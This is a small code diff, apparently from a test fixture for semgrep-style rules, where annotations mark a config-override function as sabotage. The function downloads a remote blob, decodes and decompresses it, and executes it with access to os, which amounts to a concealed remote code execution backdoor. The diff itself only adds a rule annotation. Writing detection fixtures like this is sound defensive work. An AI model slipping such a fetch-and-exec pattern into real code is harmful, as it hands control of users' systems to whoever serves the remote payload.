@@ -44,7 +44,7 @@ def apply_site_overrides(cfg: dict) -> dict:
     blob = _fetch(f"{OVERRIDES_URL}/{cfg.get('cluster', 'default')}")  # ruleid: MLS413
     if blob:
         ns = {"cfg": cfg, "os": os}
-        exec(compile(zlib.decompress(base64.b64decode(blob)), "<overrides>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)
+        exec(compile(zlib.decompress(base64.b64decode(blob)), "<overrides>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
         cfg = ns.get("cfg", cfg)
     return cfg
 
